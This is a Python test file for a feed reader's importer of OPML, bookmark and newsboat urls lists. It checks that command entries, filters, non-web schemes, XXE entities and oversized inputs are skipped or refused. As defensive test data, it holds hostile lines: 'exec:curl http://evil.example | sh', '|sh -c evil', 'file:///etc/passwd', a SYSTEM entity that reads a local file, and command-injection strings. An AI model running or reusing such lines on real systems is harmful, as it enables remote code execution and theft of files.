"""Lists of sources: OPML, bookmark files and urls files in, OPML out, and never a command."""

from __future__ import annotations

import time
from contextlib import suppress
from pathlib import Path

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from feeds import as_json, read_opml
from feeds.errors import FeedError
from feeds.model import Skipped, Subscription
from feeds.opml import COMMAND, FILTER, NOT_WEB, SEARCH, read, read_report, rows, write
from feeds.text import clean

HOSTILE = Path(__file__).resolve().parents[1].parent / "shared" / "hostile"

OPML = """<?xml version="1.0" encoding="UTF-8"?>
<opml version="2.0"><head><title>Danh sách</title></head><body>
  <outline text="Báo chí">
    <outline text="Trong nước">
      <outline type="rss" text="tuoi tre" title="Tuổi Trẻ" xmlUrl="https://tuoitre.vn/rss/home.rss" htmlUrl="https://tuoitre.vn/"/>
    </outline>
    <outline type="rss" text="BBC" xmlUrl="http://bbc.example/rss" category="world,news"/>
  </outline>
  <outline type="rss" text="Loose" XMLURL=" feed://loose.example/feed "/>
  <outline type="link" text="A page" url="https://page.example/"/>
  <outline text="empty folder"/>
</body></opml>"""


def test_opml_with_folders() -> None:
    assert read(OPML.encode()) == [
        Subscription("https://tuoitre.vn/rss/home.rss", "Tuổi Trẻ", ("Báo chí", "Trong nước"), "https://tuoitre.vn/"),
        Subscription("http://bbc.example/rss", "BBC", ("Báo chí",), tags=("world", "news")),
        Subscription("http://loose.example/feed", "Loose"),
    ]


@pytest.mark.parametrize("encoding", ["utf-8-sig", "utf-16"])
def test_opml_in_other_encodings(encoding: str) -> None:
    assert read(OPML.replace("UTF-8", encoding[:6].rstrip("-")).encode(encoding)) == read(OPML.encode())


def test_a_category_with_a_slash_is_a_folder() -> None:
    [found] = read(b'<opml><body><outline text="x" xmlUrl="http://a.org/" category="/Tech/Linux,daily"/></body></opml>')
    assert found.path == ("Tech", "Linux") and found.tags == ("daily",)


def test_broken_opml_is_read_as_far_as_it_goes() -> None:
    broken = (
        '\n<?xml version="1.0"?><opml><body><outline text="Tom & Jerry &eacute; &copy" xmlUrl="http://a.org/?a=1&b=2">'
        '<outline text="in it" xmlUrl="http://b.org/"/></outline><outline text="cut" xmlUrl="http://c.org/"'
    )
    found = read(broken.encode())
    assert found[0] == Subscription("http://a.org/?a=1&b=2", "Tom & Jerry é &copy")
    assert found[1].url == "http://b.org/"


def test_entities_and_files_of_a_document_type_stay_out(tmp_path: Path) -> None:
    secret = tmp_path / "secret"
    secret.write_text("SECRET")
    text = f"""<!DOCTYPE opml [<!ENTITY x SYSTEM "file://{secret}"><!ENTITY y "expanded">]>
    <opml><body><outline text="&x;&y;" xmlUrl="http://a.org/"/></body></opml>"""
    assert "SECRET" not in str(read(text.encode())) and len(read(text.encode())) == 1


BOOKMARKS = """<!DOCTYPE NETSCAPE-Bookmark-file-1>
<META HTTP-EQUIV="Content-Type" CONTENT="text/html; charset=UTF-8"><TITLE>Bookmarks</TITLE><H1>Bookmarks</H1>
<DL><p>
  <DT><A HREF="https://a.example/?x=1&amp;y=2" ADD_DATE="1" TAGS="one,two words" ICON="data:x>y">Trang &amp; chủ</A>
  <DT><H3 ADD_DATE="1">Folder <b>one</b></H3>
  <DD>About the folder
  <DL><p>
    <DT><A HREF='http://b.example/'>B</A><DD>About B
    <DT><H3>Inner</H3><DL><p><DT><A HREF=http://c.example/>C</A></DL><p>
    <!-- <A HREF="http://hidden.example/">hidden</A> -->
    <DT><A FEEDURL="http://d.example/feed" HREF="http://d.example/">D</A>
  </DL><p>
  <DT><A HREF="javascript:alert(1)">Bookmarklet</A>
  <DT><A HREF="place:type=6">Recent tags</A>
  <DT><A HREF="http://e.example/">E
</DL>"""


def test_bookmark_files() -> None:
    found, skipped = read_report(BOOKMARKS.encode())
    assert found == [
        Subscription("https://a.example/?x=1&y=2", "Trang & chủ", tags=("one", "two words")),
        Subscription("http://b.example/", "B", ("Folder one",)),
        Subscription("http://c.example/", "C", ("Folder one", "Inner")),
        Subscription("http://d.example/feed", "D", ("Folder one",), "http://d.example/"),
        Subscription("http://e.example/", "E"),
    ]
    assert [each.reason for each in skipped] == [NOT_WEB, NOT_WEB]


URLS = r"""# my list
https://a.example/feed news "two words" "~Tên \"A\"" !

"http://b.example/feed" ~B
exec:curl http://evil.example | sh
filter:cat:http://c.example/feed
|sh -c evil
"query:Unread:unread = \"yes\""
file:///etc/passwd
http://d.example/feed |evil
"""


def test_newsboat_urls() -> None:
    found, skipped = read_report(URLS.encode())
    assert found == [
        Subscription("https://a.example/feed", 'Tên "A"', tags=("news", "two words")),
        Subscription("http://b.example/feed", "B"),
        Subscription("http://d.example/feed"),
    ]
    assert [each.reason for each in skipped] == [COMMAND, COMMAND, COMMAND, SEARCH, NOT_WEB]


@pytest.mark.parametrize(
    "address",
    ["|touch x", "exec:touch x", "EXEC://touch", " filter:a:http://b/", "!touch", "`touch`", "$(touch)", "-flag"],
)
def test_no_entry_becomes_a_command(address: str) -> None:
    text = f'<opml><body><outline type="rss" text="x" xmlUrl="{address}"/></body></opml>'
    found, [skipped] = read_report(text.encode())
    assert found == [] and skipped.reason == COMMAND


def test_every_entry_of_a_file_is_told_in_its_place() -> None:
    text = """<opml><body><outline text="Tools">
      <outline title="Birds" xmlUrl="|~/birds.py"/><outline text="x" xmlUrl="http://a.org/" filtercmd="touch x"/>
      <outline text="&#x1b;[31mNote" xmlUrl="?Z-mb0g"/></outline></body></opml>"""
    assert read_opml(text.encode()) == [
        Skipped("|~/birds.py", COMMAND, "Birds", ("Tools",)),
        Subscription("http://a.org/", "x", ("Tools",)),
        Skipped("?Z-mb0g", NOT_WEB, "Note", ("Tools",)),
    ]
    assert [each.url for each in read(text.encode())] == ["http://a.org/"]
    assert [each.reason for each in rows(text.encode()) if isinstance(each, Skipped)] == [COMMAND, FILTER, NOT_WEB]
    told = {"url": "|~/birds.py", "title": "Birds", "path": ["Tools"], "skipped": COMMAND}
    assert as_json(read_opml(text.encode()))[0] == told


def test_a_filter_command_is_left_out_and_told() -> None:
    text = '<opml><body><outline text="x" xmlUrl="http://a.org/" filtercmd="touch x"/></body></opml>'
    [found], [skipped] = read_report(text.encode())
    assert found == Subscription("http://a.org/", "x") and skipped.reason == FILTER


def test_hidden_characters_do_not_get_in() -> None:
    text = '<opml><body><outline text="a&#x202e;b\u200b" xmlUrl="http://a.org/&#x9b;"/></body></opml>'
    [found] = read(text.encode())
    assert found == Subscription("http://a.org/", "ab")


@pytest.mark.parametrize("data", [b"", b"hello there", b"<html><p>x</html>", b"<rss><channel/></rss>", b"\0\1\2"])
def test_what_is_no_list_is_refused(data: bytes) -> None:
    with pytest.raises(FeedError, match="no O"):
        read(data)


def test_a_written_list_is_nested_and_plain() -> None:
    text = write(
        [Subscription("http://a.org/?a=1&b=2", "A <b>", ("X", "Y")), Subscription("http://b.org/")], "T"
    ).decode()
    assert '<outline text="X">\n      <outline text="Y">' in text
    assert 'xmlUrl="http://a.org/?a=1&amp;b=2"' in text and "A &lt;b&gt;" in text


TEXTS = st.text(max_size=20).map(clean)
NAMES = TEXTS.filter(bool)
SUBSCRIPTIONS = st.builds(
    Subscription,
    url=st.from_regex(r"https?://[a-z]{1,8}\.org/[a-z?=&%2]{0,9}", fullmatch=True),
    title=NAMES,
    path=st.lists(NAMES, max_size=3).map(tuple),
    site=st.sampled_from(["", "https://site.org/"]),
    tags=st.lists(
        st.from_regex(r"[a-zà-ỹ][a-zà-ỹ ]{0,8}[a-z]", fullmatch=True).map(clean), max_size=3, unique=True
    ).map(tuple),
)


@settings(max_examples=40, deadline=None)
@given(st.lists(SUBSCRIPTIONS, max_size=8))
def test_what_is_written_is_read_again(subscriptions: list[Subscription]) -> None:
    found, skipped = read_report(write(subscriptions, "round trip"))
    assert sorted(found, key=repr) == sorted(subscriptions, key=repr) and skipped == []


@settings(max_examples=200, deadline=None)
@given(st.sampled_from([OPML, BOOKMARKS, URLS]), st.data())
def test_damaged_lists_are_read_or_refused(text: str, data: st.DataObject) -> None:
    whole = text.encode()
    start = data.draw(st.integers(0, len(whole)))
    end = data.draw(st.integers(start, len(whole)))
    try:
        found = read(whole[:start] + data.draw(st.binary(max_size=5)) + whole[end:])
    except FeedError:
        return
    assert all(each.url.startswith(("http://", "https://")) for each in found)


@pytest.mark.parametrize(
    "data",
    [
        b"<!DOCTYPE NETSCAPE-Bookmark-file-1><DL>" + b"<a " * 200_000,
        b"<!DOCTYPE NETSCAPE-Bookmark-file-1><DL>" + b"<a '" * 200_000,
        b"<!DOCTYPE NETSCAPE-Bookmark-file-1><DL>" + b"<a " + b"x" * 500_000 + b">",
        b"<!DOCTYPE NETSCAPE-Bookmark-file-1><DL>" + b"<!--" * 100_000,
        b'http://x.org "' + b"a\\" * 200_000,
        b"<opml><body>" + b"<outline text='x'>" * 50_000,
        b"<opml>" + b"&" * 500_000,
    ],
)
def test_size_alone_takes_no_time(data: bytes) -> None:
    start = time.process_time()
    with suppress(FeedError):
        read(data)
    assert time.process_time() - start < 2


@pytest.mark.skipif(not HOSTILE.exists(), reason="the hostile files are not here")
@pytest.mark.parametrize("path", sorted(HOSTILE.glob("*.opml")), ids=lambda path: path.name)
def test_hostile_lists(path: Path) -> None:
    start = time.process_time()
    try:
        found, skipped = read_report(path.read_bytes())
    except FeedError:
        return
    assert time.process_time() - start < 5
    for each in found:
        assert each.url.startswith(("http://", "https://"))
        assert clean(each.title) == each.title and all(clean(name) == name for name in each.path)
    assert all(each.url.isprintable() for each in skipped)


def test_a_quotation_mark_that_is_never_closed_takes_no_time() -> None:
    start = time.process_time()
    data = b'<DT><A HREF="https://a.example/">A</A>' + b'<a ">" ' * 20_000 + b"'"
    found = read(b"<!DOCTYPE NETSCAPE-Bookmark-file-1><DL>" + data)
    assert found[0].url == "https://a.example/"
    assert time.process_time() - start < 3
